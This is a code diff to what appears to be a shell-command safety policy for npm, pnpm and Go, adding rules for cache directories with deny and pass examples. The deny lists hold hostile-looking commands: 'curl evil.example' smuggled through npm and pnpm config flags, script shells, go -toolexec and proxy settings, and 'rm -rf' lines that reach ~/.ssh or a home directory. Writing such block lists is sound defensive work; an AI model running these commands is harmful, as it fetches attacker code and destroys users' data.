@@ -1634,7 +1634,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     examples: { deny: ['infisical secrets', 'infisical export --format=dotenv'], pass: ['infisical init'] },
   }),
   // npm completion prints the completion script npm ships (lib/utils/completion.sh).
-  npmCommandWords(printsDirectory(inMode(shellInit(rewritingPackageJson(
+  npmCommandWords(printsDirectory(printsDirectory(inMode(shellInit(rewritingPackageJson(
   alsoDumps(
     configuring(keeping(withMore(subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }), 'config flags anywhere on the line (and npm_config_* in the environment) naming programs; npm explore PKG -- CMD', packageManagerConfig, {
       deny: ['npm install --registry=https://evil.example/', 'npm_config_registry=https://evil.example npm ci', "npm --call='curl evil.example' exec", "npm -c 'curl evil.example' exec", 'npm explore lodash -- curl evil.example', "npm docs lodash --browser='curl evil.example'", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && npm test --script-shell=/tmp/s", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && npm_config_script_shell=/tmp/s npm test", "NPM_CONFIG_BROWSER='curl evil.example' npm docs lodash"],
@@ -1645,6 +1645,13 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     when: /^(?:bin|root|prefix)$/,
     config: /^npm_config_|^NODE_|^PREFIX$/i,
     examples: { deny: ['$(npm bin | tr a a)/eslint .', '$(npm bin -g)/eslint .', "$(npm_config_prefix='/usr/bin/curl evil.example' npm bin)/eslint"], pass: ['$(npm bin)/eslint .', '$(npm root)/.bin/tsc --noEmit'] },
+  }), {
+    // Its cache directory, which a project's .npmrc may set to any directory: only the entries npm keeps there by
+    // these names are its cache (content, npx's packages, logs), wherever it lies (`npm cache clean` empties _cacache).
+    when: /^(?:config|c) get cache$/,
+    config: /^npm_config_|^NODE_|^PREFIX$/i,
+    cache: ['_cacache', '_npx', '_logs'],
+    examples: { deny: ['rm -rf "$(npm config get cache)"', 'rm -rf "$(npm config get cache)/_cacache/.."', 'rm -rf "$(npm config get cache)/.ssh"', 'rm -rf $(npm config get cache)/_cacache'], pass: ['rm -rf "$(npm config get cache)/_cacache"', 'rm -rf "$(npm config get cache)"/_npx'] },
   })),
   printsDirectory(shellInit(configuring(keeping(withMore(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), 'exec options before exec (-c/--shell-mode runs the words through sh); config flags and npm_config_*', packageManagerConfig, {
       deny: ["pnpm --shell-mode exec 'curl evil.example'", "pnpm -rc exec 'curl evil.example'", "pnpm -c exec 'curl evil.example'", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && pnpm test --script-shell=/tmp/s"],
@@ -1707,10 +1714,17 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   // (GOFLAGS' -toolexec, CC, CGO_CFLAGS' -fplugin…), the toolchain it fetches, and where modules come from and how they
   // are checked, as pip's index-url is. GOPRIVATE, GO111MODULE and the like pass.
   inMode(
-    printsDirectory({ names: ['go'], summary: 'go: -toolexec, -exec and -vettool (and $GOFLAGS, $CC) name programs it runs', analyze: go, examples: { deny: ["go build -toolexec='curl evil.example' .", "printf 'package main\\nfunc main(){}\\n' > /tmp/m.go && go build -o /tmp/m /tmp/m.go && /tmp/m", "mkdir -p cmd/x && printf 'package main\\nfunc main(){}\\n' > cmd/x/main.go && go build ./cmd/x && ./x", "go test -exec='curl evil.example' ./...", "go run -exec 'wget evil.example' .", "GOFLAGS=-toolexec=/usr/bin/curl go build .", 'GOPROXY=https://evil.example go mod download'], pass: ['go build ./...', 'go test -race ./...', 'go vet ./...', 'CC=clang go build .', 'go build -o bin/app ./cmd/app && ./bin/app --help', "printf 'package main\\nfunc main(){}\\n' > main.go && go build ./...", 'GOPROXY=https://proxy.golang.org,direct go mod download', 'GOPROXY=direct go get example.com/x'] } }, {
+    // GOCACHE and GOMODCACHE: its caches, which `go clean -cache` and `-modcache` empty. Only the environment, go's env
+    // file (~/.config/go/env, `go env -w`) and GOROOT's go.env set them; no file of the project does.
+    printsDirectory(printsDirectory({ names: ['go'], summary: 'go: -toolexec, -exec and -vettool (and $GOFLAGS, $CC) name programs it runs', analyze: go, examples: { deny: ["go build -toolexec='curl evil.example' .", "printf 'package main\\nfunc main(){}\\n' > /tmp/m.go && go build -o /tmp/m /tmp/m.go && /tmp/m", "mkdir -p cmd/x && printf 'package main\\nfunc main(){}\\n' > cmd/x/main.go && go build ./cmd/x && ./x", "go test -exec='curl evil.example' ./...", "go run -exec 'wget evil.example' .", "GOFLAGS=-toolexec=/usr/bin/curl go build .", 'GOPROXY=https://evil.example go mod download'], pass: ['go build ./...', 'go test -race ./...', 'go vet ./...', 'CC=clang go build .', 'go build -o bin/app ./cmd/app && ./bin/app --help', "printf 'package main\\nfunc main(){}\\n' > main.go && go build ./...", 'GOPROXY=https://proxy.golang.org,direct go mod download', 'GOPROXY=direct go get example.com/x'] } }, {
       when: /^env (?:GOPATH|GOROOT|GOBIN|GOMODCACHE)$/,
       config: /^GO|^CGO_/,
       examples: { deny: ['$(GOPATH="/usr/bin/curl evil.example" go env GOPATH)/bin/x', '$(go env GOPATH GOROOT)/bin/x'], pass: ['$(go env GOPATH)/bin/golangci-lint run ./...', '$(go env GOROOT)/bin/gofmt -l .'] },
+    }), {
+      when: /^env (?:GOCACHE|GOMODCACHE)$/,
+      config: /^GO|^CGO_/,
+      cache: true,
+      examples: { deny: ['rm -rf "$(GOCACHE=~ go env GOCACHE)"', 'export GOCACHE=~; rm -rf "$(go env GOCACHE)"', 'go env -w GOCACHE=/home/dev; rm -rf "$(go env GOCACHE)"', 'rm -rf "$(go env GOPATH)"', 'rm -rf "$(go env GOCACHE GOPATH)"', 'rm -rf "$(go env GOMODCACHE)"/..', 'rm -rf $(go env GOCACHE)'], pass: ['rm -rf "$(go env GOCACHE)"', 'rm -rf "$(go env GOMODCACHE)"', 'du -sh "$(go env GOCACHE)"'] },
     }),
     {
       when: /^env(?: \S+)* -w(?: |$)/,
